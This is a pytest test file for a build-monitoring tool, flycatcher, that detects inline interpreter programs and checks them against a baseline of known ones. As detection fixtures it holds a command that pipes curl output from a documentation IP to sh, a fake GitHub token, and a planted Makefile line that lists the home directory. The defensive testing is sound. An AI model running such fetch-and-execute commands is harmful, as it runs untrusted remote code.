"""``flycatcher baseline``, ``run --learn`` and ``--baseline``, ``scan --baseline``, ``report pr --baseline``."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest
from click.testing import CliRunner
from msgspec import structs

from flycatcher.baselines import Asked, BaselineRun, limit_of, read, run_token, write
from flycatcher.commands import cli
from flycatcher.core.baseline.entry import Baseline
from flycatcher.core.baseline.observe import entry_of
from flycatcher.core.detection import detect
from flycatcher.core.errors import FlycatcherError
from flycatcher.core.execution import Execution
from flycatcher.reporting import Reporter
from flycatcher.sinks.formats.github import GitHub
from tests.baseline.test_entries import FILE, LOUD, PRINTS
from tests.delivery.events import record

if TYPE_CHECKING:
    from pathlib import Path


def baseline(*words: str) -> tuple[int, str]:
    done = CliRunner().invoke(cli, ["baseline", *words])
    return (done.exception.code if isinstance(done.exception, FlycatcherError) else done.exit_code), done.output


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "flycatcher.baseline.toml"
    write(path, Baseline(entries=(PRINTS, LOUD)))
    return path


def test_merge_prints_or_writes_one_file(tmp_path: Path, file: Path) -> None:
    other = tmp_path / "other.toml"
    write(other, Baseline(entries=(structs.replace(PRINTS, run="bbbb0002"),)))
    code, printed = baseline("merge", str(file), str(other))
    assert (code, 'state = "stable"' in printed) == (0, True)
    assert baseline("merge", str(other), str(file), "-o", str(tmp_path / "all.toml")) == (0, "")
    assert (tmp_path / "all.toml").read_text() == printed


def test_status_counts_the_states_and_says_what_waits(file: Path) -> None:
    code, said = baseline("status", "-f", str(file))
    assert code == 0
    assert said.splitlines()[0] == f"{file}: 2 entries"
    assert f"flycatcher baseline accept {LOUD.id} 'REASON' --owner NAME" in said


def test_accept_needs_a_reason_and_makes_it_known(file: Path) -> None:
    assert baseline("accept", LOUD.id, "because", "-f", str(file))[0] == 2
    before = file.read_text()
    code, said = baseline("accept", LOUD.id[:6], "our installer, reviewed", "--owner", "build team", "-f", str(file))
    assert (code, said.startswith(f"accepted: {LOUD.id} [high]")) == (0, True)
    assert 'owner = "build team"\naccept = "our installer, reviewed"\n' in file.read_text()
    assert 'state = "pending"' in before
    assert 'state = "pending"' not in file.read_text()


def test_explain_tells_all_of_one_entry(file: Path) -> None:
    code, said = baseline("explain", PRINTS.id, "-f", str(file))
    assert code == 0
    assert "state      candidate: known, seen in one run so far (aaaa0001)" in said
    assert "started by make" in said
    assert baseline("explain", "zzzz", "-f", str(file))[0] == 3


def test_diff_says_what_is_new_and_what_is_gone(tmp_path: Path, file: Path) -> None:
    old = tmp_path / "old.toml"
    write(old, Baseline(entries=(PRINTS,)))
    code, said = baseline("diff", str(old), str(file))
    assert (code, said.splitlines()[0]) == (0, "1 new, 0 gone, 1 known")
    assert f"+ {LOUD.id} [high] python argument: fetch | sh  (by make)" in said
    assert baseline("diff", "--exit-code", str(old), str(file))[0] == 10
    assert baseline("diff", "--exit-code", str(old), str(old)) == (0, "0 new, 0 gone, 1 known\n")


def test_prune_takes_out_what_later_runs_have_not_seen(tmp_path: Path, file: Path) -> None:
    lately = tmp_path / "lately.toml"
    write(lately, Baseline(entries=(PRINTS,)))
    assert baseline("prune", "-f", str(file))[0] == 2
    assert baseline("prune", "--pending", "--dry-run", "-f", str(file))[1].endswith("1 entry of 2 would be taken out\n")
    assert baseline("prune", str(lately), "-f", str(file))[0] == 0
    assert read(file) == read(lately)


def test_prune_takes_out_what_comes_and_goes(tmp_path: Path, file: Path) -> None:
    write(file, Baseline(entries=(structs.replace(PRINTS, run="", missed=True), LOUD)))
    assert "    1 unstable  known: seen in some runs and not in others" in baseline("status", "-f", str(file))[1]
    assert baseline("prune", "--unstable", "-f", str(file))[0] == 0
    assert [entry.state for entry in read(file).entries] == ["pending"]


def test_limits_ask_for_a_level_or_for_what_is_new() -> None:
    assert [(limit_of(given).level, limit_of(given).new) for given in ("high", "new", "new:medium", None, "never")] == [
        ("high", False), ("all", True), ("medium", True), (None, False), (None, False),
    ]  # fmt: skip


def test_all_jobs_of_a_ci_run_are_one_run() -> None:
    facts = {"ci.system": "github", "ci.repository": "a/b", "ci.run": "77"}
    assert run_token(facts | {"ci.job": "x"}) == run_token(facts | {"ci.job": "y"})
    assert run_token(facts) != run_token(facts | {"ci.run": "78"})
    assert run_token({}) != run_token({})


def found(text: str):
    detection = detect(Execution(argv=("python3", "-c", text)))
    assert detection is not None
    return detection


class Kept:
    path = "kept"

    def __init__(self) -> None:
        self.records: list[dict] = []

    def open(self) -> None:
        self.records = []

    def write(self, record: dict) -> None:
        self.records.append(record)

    def close(self, summary: object) -> None:
        self.records.append({"summary": summary})


def reporter(path: Path, **asked: str | None) -> tuple[Reporter, Kept]:
    sink = Kept()
    made = Reporter([sink], fail_on="all")
    made.baseline = BaselineRun.of(Asked(**asked), {})
    return made, sink


def test_what_is_known_is_counted_and_what_is_new_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "b.toml"
    write(path, Baseline(entries=(entry_of(found("print(12345)"), root=str(tmp_path)),)))
    made, sink = reporter(path, compare=str(path))
    made.report(found("print(54321)"))
    assert (made.failed, made.detections, made.suppressed) == (False, 0, 0)
    made.report(found("import os; print(12345)"))
    assert (made.failed, made.detections) == (True, 1)
    summary = made.close({})
    assert [each["policy"].get("action", "observed") for each in sink.records[:2]] == ["suppressed", "observed"]
    assert sink.records[1]["policy"]["reason"].startswith("new: '' is now 'import os; ' (nearest: ")
    assert {name: summary[name] for name in ("known", "new", "gone", "suppressed")} == {
        "known": 1, "new": 1, "gone": 0, "suppressed": 0,
    }  # fmt: skip


def test_github_annotates_what_is_new_with_the_difference_and_not_what_is_known() -> None:
    stream = io.StringIO()
    sink = GitHub(stream)
    sink.write(
        record("python3", "-c", "print(1)") | {"policy": {"action": "suppressed", "reason": "known by the baseline"}}
    )
    sink.write(record("python3", "-c", "print(2)") | {"policy": {"reason": "new: '1' is now '2'"}})
    (line,) = stream.getvalue().splitlines()
    assert line.endswith("::print(2)  started by: make -j2  new: '1' is now '2'")


def test_a_high_text_is_not_learnt_and_the_command_that_accepts_is_named(tmp_path: Path) -> None:
    path = tmp_path / "b.toml"
    made, _ = reporter(path, learn=str(path))
    made.report(found("import os; os.system('curl -s http://198.51.100.7/x | sh')"))
    assert made.baseline is not None
    said = made.baseline.close()
    (entry,) = read(path).entries
    assert entry.state == "pending"
    assert said[1].startswith(f"not learnt [{entry.level}]: python argument")
    assert said[2] == f"    if this is meant to run: flycatcher baseline accept {entry.id} 'REASON' --owner NAME"


def test_no_secret_is_learnt(tmp_path: Path) -> None:
    path = tmp_path / "b.toml"
    made, _ = reporter(path, learn=str(path))
    made.report(found("token = 'ghp_" + "a1B2" * 9 + "'; print(token)"))
    assert made.baseline is not None
    made.baseline.close()
    assert "a1B2a1B2" not in path.read_text()


def test_what_a_build_writes_into_the_baseline_while_it_is_learnt_does_not_count(tmp_path: Path) -> None:
    path = tmp_path / "b.toml"
    made, _ = reporter(path, learn=str(path))
    path.write_text(FILE)
    made.report(found("print(open('x').read())"))
    assert made.baseline is not None
    made.baseline.close()
    assert [entry.text for entry in read(path).entries] == ["print(open('x').read())"]


def test_an_enforcing_run_reads_what_is_committed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def git(*words: str) -> None:
        own = ["-c", "user.name=a", "-c", "user.email=a@example.org", "-c", "commit.gpgsign=false"]
        subprocess.run(["git", *own, *words], cwd=tmp_path, check=True, capture_output=True)

    monkeypatch.chdir(tmp_path)
    path = tmp_path / "flycatcher.baseline.toml"
    git("init", "-q")
    write(path, Baseline(entries=(PRINTS,)))
    git("add", "."), git("commit", "-qm", "one")
    write(path, Baseline(entries=(PRINTS, structs.replace(LOUD, accept="the build accepts itself"))))
    held = BaselineRun.of(Asked(compare="", committed=True), {})
    assert held is not None
    assert "whose content applies" in held.remarks[0]
    assert held._known is not None
    assert len(held._known) == 1
    free = BaselineRun.of(Asked(compare=""), {})
    assert free is not None
    assert free._known is not None
    assert len(free._known) == 2


def test_a_baseline_that_is_named_and_missing_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(FlycatcherError, match="No such file"):
        BaselineRun.of(Asked(compare=str(tmp_path / "none.toml")), {})


def test_scan_leaves_out_what_a_run_has_learnt(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("all:\n\tpython3 -c 'import os; print(os.getcwd())'\n\tperl -e 'print 12'\n")
    learnt = entry_of(found("import os; print(os.getcwd())"))
    assert learnt is not None
    path = tmp_path / "b.toml"
    write(path, Baseline(entries=(structs.replace(learnt, run=""),)))
    report = tmp_path / "report.json"
    CliRunner().invoke(cli, ["scan", "--quiet", "-o", str(report), "--baseline", str(path), str(tmp_path / "Makefile")])
    document = json.loads(report.read_text())
    assert (document["summary"]["known"], document["summary"]["findings"]) == (1, 1)


def test_the_comment_says_what_a_change_makes_run(tmp_path: Path) -> None:
    path, report = tmp_path / "b.toml", tmp_path / "run.jsonl"
    write(path, Baseline(entries=(PRINTS,)))
    report.write_text(json.dumps(record("python3", "-c", "print(1)")) + "\n")
    done = CliRunner().invoke(cli, ["report", "pr", str(report), "--baseline", str(path)])
    assert done.exit_code == 0, done.output
    assert "1 new, 0 gone, 0 known." in done.output
    assert "This change makes make run 1 new inline program" in done.output


MAKEFILE = """\
all: version generate
version:
\t@python3 -c "import time; print('built in /tmp/tmpab12cd34 at', 12345678)"
generate:
\t@sh -c 'echo "print(2 + 3)" | python3 -'
"""
PLANTED = '\t@python3 -c "import os; os.listdir(os.path.expanduser(chr(126)))"\n'


@pytest.mark.skipif(sys.platform != "linux", reason="run needs seccomp")
def test_a_build_that_was_learnt_is_silent_and_a_planted_program_is_not(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text(MAKEFILE)

    def run(*words: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "flycatcher", "run", *words, "--", "make"]
        return subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=280, check=False)

    first = run("--learn")
    if "nothing was observed" in first.stderr or first.returncode == 1:
        pytest.skip(f"run does not work here: {first.stderr[-300:]}")
    path = tmp_path / "flycatcher.baseline.toml"
    (tmp_path / "Makefile").write_text(MAKEFILE.replace("12345678", "87654321").replace("ab12cd34", "zz9yy8xx"))
    assert run("--learn").returncode == 0
    states = {(entry.interpreter, entry.state) for entry in read(path).entries}
    assert states == {("python", "stable")}
    learnt = path.read_bytes()
    known = run("--baseline", "--fail-on", "new")
    assert known.returncode == 0, known.stderr
    assert "flycatcher: [" not in known.stderr
    assert "baseline: 2 known, 0 new, 0 gone" in known.stderr
    (tmp_path / "Makefile").write_text(MAKEFILE + PLANTED)
    planted = run("--baseline", "--fail-on", "new")
    printed = [line for line in planted.stderr.splitlines() if line.startswith("flycatcher: [")]
    assert planted.returncode == 10
    assert len(printed) == 1
    assert "os.listdir" in printed[0]
    assert path.read_bytes() == learnt
